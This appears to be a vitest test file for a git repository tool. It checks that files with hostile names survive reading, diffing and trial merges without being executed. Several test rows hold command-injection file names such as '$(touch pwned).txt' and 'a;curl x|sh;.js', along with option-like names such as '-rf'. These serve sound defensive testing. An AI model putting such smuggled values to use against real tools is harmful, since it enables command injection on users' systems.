import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { RepoPath } from '../../src/core/model/ids.ts';
import { makeRepository } from '../support/git-fixture.ts';
import { changesAt } from '../support/open-repository.ts';

/** Commits files of these names on a branch and reads them back through every question that takes or gives names. */
async function roundTrip(names: readonly string[]): Promise<void> {
  const repo = makeRepository();
  repo.commit({ 'keep.txt': 'keep\n' });
  repo.git('branch', 'side');
  repo.git('checkout', '-q', '-b', 'work');
  repo.commit(
    names.map((name) => [name, `ours ${name}\n`] as const),
    { checkout: false },
  );
  repo.commit(
    names.map((name) => [name, `theirs ${name}\n`] as const),
    { branch: 'side' },
  );
  const { repository, base, changes } = await changesAt(repo.dir);
  const sorted = [...names].sort((a, b) => (a < b ? -1 : 1));
  expect(changes.map(({ path }) => path)).toEqual(sorted);
  expect(changes.every(({ kind, added }) => kind === 'added' && added !== null && added > 0)).toBe(true);

  const { head } = repository.place;
  const paths = changes.map(({ path }) => path);
  const files = await repository.readFiles(head, paths, 10_000);
  for (const path of paths) expect(Buffer.from(files.get(path) ?? '')).toEqual(Buffer.from(`ours ${path}\n`));
  expect(await repository.listFiles(head)).toEqual(expect.arrayContaining([...paths, 'keep.txt']));
  const range = { base: base.commit, head };
  const lines = await repository.readDiff(range, paths, 1_000_000);
  expect([...lines.keys()].sort()).toEqual([...paths].sort());

  const { branches } = await repository.listBranches({ base, head });
  expect(branches.map(({ name }) => name)).toEqual(['side']);
  const own = { all: new Set(paths), added: new Set(paths), deleted: new Set<RepoPath>() };
  expect(await repository.findMeetings(branches, own)).toEqual([{ shared: sorted, mayConflict: true }]);
  const tip = branches[0]?.tip ?? head;
  await using trial = repository.openTrialMerges({
    base: base.commit,
    ahead: new Set([head, tip]),
    timeBudgetMs: 60_000,
  });
  const [met] = await trial.takeIn([[head, tip]], { lines: true });
  expect(met?.kind === 'conflicts' && met.conflicts.map(({ path }) => path)).toEqual(sorted);
  for (const place of [repo.dir, process.cwd()])
    for (const trap of ['pwned', 'p']) expect(existsSync(join(place, trap))).toBe(false);
}

test('row 1: command substitution in names', () => roundTrip(['$(touch pwned).txt', '`touch pwned`.ts']));
test('row 2: shell operators in names', () => roundTrip(['a;curl x|sh;.js', 'a&&b', 'a|b', 'a>pwned']));
test('row 3: a line break in a name is one name', () => roundTrip(['a\nb.ts', '\n', 'x/\n/y']));
test('row 4: control characters in names', () =>
  roundTrip(['a\rb', 'a\tb', '\x1b[31mred', 'bell\x07', '\x7f']));
test('row 7: names like options', () => roundTrip(['-rf', '--output=p', '-c core.pager=x', '--', '-']));
test('row 8: names like pathspec magic', () => roundTrip([':(exclude)*', ':!secret', ':', ':^x', ':(top)a']));
test('row 9: names like globs', () => roundTrip(['*', '?', '[id].tsx', '{a,b}', '**/x', 'src/[...slug].ts']));
test('row 10: spaces, dots, device names', () =>
  roundTrip(['a b.ts', ' lead', 'trail ', 'a.', 'con', 'nul.txt', 'a:b', '"q"', 'back\\slash', '...']));
test('row 11: bytes that are not UTF-8, never two names made one', () =>
  roundTrip(['\udcff\udcfe.ts', '\udcff.ts', '\ufffd.ts', '\udce9', 'é\udcc3', '日本']));
test('row 13: composed and decomposed names are two paths', () => roundTrip(['\u00e9.ts', 'e\u0301.ts']));
test('row 14: names that differ in case are two paths', () => roundTrip(['README.md', 'readme.md']));

test('row 11: a name that is not asked for byte by byte is not found', async () => {
  const repo = makeRepository();
  repo.commit({ '\udcff.ts': 'x' }, { checkout: false });
  const { repository } = await changesAt(repo.dir);
  const files = await repository.readFiles(repository.place.head, ['\ufffd.ts' as RepoPath], 100);
  expect(files.size).toBe(0);
});
